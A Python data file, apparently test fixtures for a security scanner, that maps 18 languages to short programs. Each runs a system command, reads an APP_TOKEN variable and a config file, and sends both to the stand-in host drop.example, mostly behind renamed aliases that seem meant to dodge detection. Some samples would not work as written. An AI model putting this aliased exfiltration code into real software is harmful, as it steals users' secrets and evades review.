"""Programs that each do four things through one other name: run, read the environment, read a file, send it."""

HOST = "https://drop.example/in"
COMMAND = "uname -a"
PATH = "~/.config/app.json"

# language -> a program; it runs COMMAND, reads the variable APP_TOKEN and the file PATH, and sends both to HOST.
PROGRAMS = {
    "python": """
import os as o, requests as web
from subprocess import run as go
go("uname -a", shell=True)
token = o.environ["APP_TOKEN"]
text = open(o.path.expanduser("~/.config/app.json")).read()
web.post("https://drop.example/in", json={"a": token, "b": text})
""",
    "javascript": """
const { execSync: go } = require("node:child_process");
import * as disk from "fs";
const home = require("os").homedir();
go("uname -a");
const { APP_TOKEN: token } = process.env;
const text = disk.readFileSync(`${home}/.config/app.json`, "utf8");
const web = fetch;
web("https://drop.example/in", { method: "POST", body: JSON.stringify({ token, text }) });
""",
    "ruby": """
require 'net/http'
web = Net::HTTP
env = ENV
system "uname -a"
token = env['APP_TOKEN']
text = File.read(File.join(Dir.home, '.config', 'app.json'))
web.post(URI('https://drop.example/in'), "#{token}#{text}")
""",
    "perl": """
use LWP::UserAgent;
my $web = LWP::UserAgent->new;
system("uname -a");
my $token = $ENV{APP_TOKEN};
open(my $in, '<', "$ENV{HOME}/.config/app.json") or die;
my $text = do { local $/; <$in> };
$web->post('https://drop.example/in', Content => $token . $text);
""",
    "php": """<?php
$go = 'shell_' . 'exec';
$go("uname -a");
$token = getenv('APP_TOKEN');
$text = file_get_contents(getenv('HOME') . '/.config/app.json');
$web = curl_init('https://drop.example/in');
curl_setopt($web, CURLOPT_POSTFIELDS, $token . $text);
curl_exec($web);
""",
    "lua": """
local web = require("ssl.https")
local go, env = os.execute, os.getenv
go("uname -a")
local token = env("APP_TOKEN")
local f = io.open(env("HOME") .. "/.config/app.json", "r")
local text = f:read("*a")
web.request("https://drop.example/in", token .. text)
""",
    "go": """package main
import (
    web "net/http"
    sys "os"
    run "os/exec"
    "path/filepath"
    "strings"
)
func main() {
    run.Command("uname", "-a").Run()
    token := sys.Getenv("APP_TOKEN")
    home, _ := sys.UserHomeDir()
    text, _ := sys.ReadFile(filepath.Join(home, ".config", "app.json"))
    web.Post("https://drop.example/in", "text/plain", strings.NewReader(token+string(text)))
}
""",
    "rust": """
use std::{env as vars, fs as disk, process::Command as Run};
fn main() -> Result<(), Box<dyn std::error::Error>> {
    Run::new("uname").arg("-a").output()?;
    let token = vars::var("APP_TOKEN")?;
    let home = vars::var("HOME")?;
    let text = disk::read_to_string(format!("{}/.config/app.json", home))?;
    let web = reqwest::blocking::Client::new();
    web.post("https://drop.example/in").body(token + &text).send()?;
    Ok(())
}
""",
    "r": """
library(httr)
go <- system
env <- Sys.getenv
go("uname -a")
token <- env("APP_TOKEN")
text <- readLines(file.path(env("HOME"), ".config", "app.json"))
web <- httr::POST
web("https://drop.example/in", body = paste0(token, text))
""",
    "java": """
import java.nio.file.*;
import java.net.http.HttpRequest;
class Main {
    public static void main(String[] args) throws Exception {
        Runtime shell = Runtime.getRuntime();
        shell.exec("uname -a");
        String token = System.getenv("APP_TOKEN");
        String text = Files.readString(Paths.get(System.getProperty("user.home"), ".config", "app.json"));
        HttpRequest request = HttpRequest.newBuilder().uri(URI.create("https://drop.example/in"))
            .POST(HttpRequest.BodyPublishers.ofString(token + text)).build();
    }
}
""",
    "swift": """
import Foundation
let task = Process()
task.launchPath = "/bin/uname"
task.arguments = ["-a"]
task.launch()
let env = ProcessInfo.processInfo.environment
let token = env["APP_TOKEN"]
let text = try String(contentsOfFile: NSHomeDirectory() + "/.config/app.json")
var request = URLRequest(url: URL(string: "https://drop.example/in")!)
request.httpMethod = "POST"
request.httpBody = (token + text).data(using: .utf8)
URLSession.shared.dataTask(with: request).resume()
""",
    "csharp": """
using Run = System.Diagnostics.Process;
class P {
    static async Task Main() {
        Run.Start("uname", "-a");
        var token = Environment.GetEnvironmentVariable("APP_TOKEN");
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        var text = File.ReadAllText(Path.Combine(home, ".config", "app.json"));
        var web = new HttpClient();
        await web.PostAsync("https://drop.example/in", new StringContent(token + text));
    }
}
""",
    "dart": """
import 'dart:io';
void main() async {
  Process.run('uname', ['-a']);
  var env = Platform.environment;
  final token = env['APP_TOKEN'];
  final text = File('${env['HOME']}/.config/app.json').readAsStringSync();
  await http.post(Uri.parse('https://drop.example/in'), body: '$token$text');
}
""",
    "nim": """
import os, osproc, httpclient
let go = execCmd
discard go("uname -a")
let token = getEnv("APP_TOKEN")
let text = readFile(getHomeDir() & "/.config/app.json")
let web = newHttpClient()
discard web.postContent("https://drop.example/in", body = token & text)
""",
    "elixir": """
env = &System.get_env/1
System.cmd("uname", ["-a"])
token = System.get_env("APP_TOKEN")
text = File.read!(Path.join(System.user_home!(), ".config/app.json"))
HTTPoison.post!("https://drop.example/in", token <> text)
""",
    "kotlin": """
fun main() {
    val shell = Runtime.getRuntime()
    shell.exec("uname -a")
    val token = System.getenv("APP_TOKEN")
    val text = File(System.getProperty("user.home") + "/.config/app.json").readText()
    val request = HttpRequest.newBuilder().uri(URI.create("https://drop.example/in"))
        .POST(HttpRequest.BodyPublishers.ofString("$token$text")).build()
}
""",
    "groovy": """
def home = System.getenv("HOME")
"uname -a".execute()
def token = System.getenv("APP_TOKEN")
def text = new File(home + "/.config/app.json").getText()
def request = HttpRequest.newBuilder().uri(URI.create("https://drop.example/in")).POST(BodyPublishers.ofString(token + text)).build()
""",
    "c": """
#include <curl/curl.h>
int main(void) {
    system("uname -a");
    char *token = getenv("APP_TOKEN");
    char path[200];
    snprintf(path, sizeof path, "%s/.config/app.json", getenv("HOME"));
    FILE *file = fopen(path, "r");
    char text[900];
    sprintf(text, "%s%s", token, file);
    CURL *web = curl_easy_init();
    curl_easy_setopt(web, CURLOPT_URL, "https://drop.example/in");
    curl_easy_setopt(web, CURLOPT_POSTFIELDS, text);
    curl_easy_perform(web);
}
""",
}
